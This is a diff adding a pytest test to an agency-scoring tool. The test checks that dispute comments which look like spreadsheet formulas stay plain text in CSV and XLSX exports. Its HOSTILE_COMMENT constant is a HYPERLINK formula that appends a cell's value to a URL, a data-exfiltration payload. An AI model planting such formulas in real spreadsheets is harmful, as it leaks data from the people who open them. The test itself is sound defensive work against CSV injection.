@@ -128,3 +128,39 @@ def test_export_before_scoring_is_a_clean_error(tmp_path: Path):
 def test_score_unknown_agency_is_a_clean_error(scored: Path):
     output = invoke("score", "-w", str(scored), "--agency", "so-khong-co", code=1)
     assert "unknown agency 'so-khong-co'" in output
+
+
+HOSTILE_COMMENT = '=HYPERLINK("http://127.0.0.1:9/x?"&B2,"Xem")'
+
+
+def test_a_comment_that_looks_like_a_formula_is_text_in_both_exports(scored: Path,
+                                                                        tmp_path: Path):
+    """OWASP's CSV injection: an agency's dispute comment beginning with "=" reaches the
+    province's staff as the text it is, in the CSV and in the XLSX; numbers stay numbers."""
+    from inspector.review.overrides import respond
+
+    ws = Workspace(scored)
+    respond(ws, "so-tttt", "1B/III/2", "disputed", HOSTILE_COMMENT, "cb-so-tttt")
+    respond(ws, "so-tttt", "1B/III/10", "disputed", "-1 tin bị tính thừa\r", "cb-so-tttt")
+    ws.close()
+    rows = list(csv.DictReader(io.StringIO(invoke("export", "-w", str(scored), "--format",
+                                                  "csv"))))
+    comments = {r["criterion_id"]: r["agency_comment"] for r in rows if r["agency_comment"]}
+    assert comments == {"1B/III/2": "'" + HOSTILE_COMMENT, "1B/III/10": "'-1 tin bị tính thừa"}
+    news = next(r for r in rows if r["criterion_id"] == "1B/III/2")
+    assert news["points"] == "5.0"
+    out = tmp_path / "ket-qua.xlsx"
+    invoke("export", "-w", str(scored), "--format", "xlsx", "-o", str(out))
+    sheet = load_workbook(out)["findings"]
+    header = [c.value for c in sheet[1]]
+    column = header.index("agency_comment") + 1
+    cells = {sheet.cell(row, header.index("criterion_id") + 1).value: sheet.cell(row, column)
+             for row in range(3, sheet.max_row + 1)}
+    hostile = cells["1B/III/2"]
+    assert (hostile.value, hostile.data_type, hostile.quotePrefix) == (HOSTILE_COMMENT, "s", True)
+    assert cells["1B/III/10"].data_type == "s"
+    points = sheet.cell(next(r for r in range(3, sheet.max_row + 1) if sheet.cell(
+        r, header.index("criterion_id") + 1).value == "1B/III/2"), header.index("points") + 1)
+    assert points.data_type == "n" and points.value == 5
+    # nothing in the file is a formula
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
